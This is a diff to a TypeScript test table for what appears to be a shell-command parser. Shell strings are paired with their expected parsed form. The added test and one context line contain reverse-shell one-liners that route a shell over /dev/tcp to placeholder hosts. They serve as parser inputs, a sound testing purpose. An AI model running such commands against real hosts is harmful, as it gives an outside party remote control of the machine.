@@ -46,7 +46,10 @@ const constructs: Record<string, readonly (readonly [code: string, program: stri
       '(call sh:a stdout="o" stderr="o")\n(call sh:b stdout="p" stderr="p")\n(call sh:c stdout="q" stderr="q" append=true)',
     ],
     ['a >|o b', '(call sh:a "b" stdout="o")'],
-    ['exec 3<>/dev/tcp/h.test/1', '(call sh:exec input="/dev/tcp/h.test/1" stdout="/dev/tcp/h.test/1")'],
+    [
+      '0<&196;exec 196<>/dev/tcp/h.test/1; sh <&196 >&196 2>&196; a >&7',
+      '(= global &196 "/dev/tcp/h.test/1")\n(call sh:exec input="/dev/tcp/h.test/1" stdout="/dev/tcp/h.test/1")\n(call sh:sh input=&196 stdout=&196 stderr=&196)\n(call sh:a)',
+    ],
     [
       'bash -i >& /dev/tcp/192.0.2.1/4 0>&1',
       '(call sh:bash "-i" stdout="/dev/tcp/192.0.2.1/4" stderr="/dev/tcp/192.0.2.1/4")',
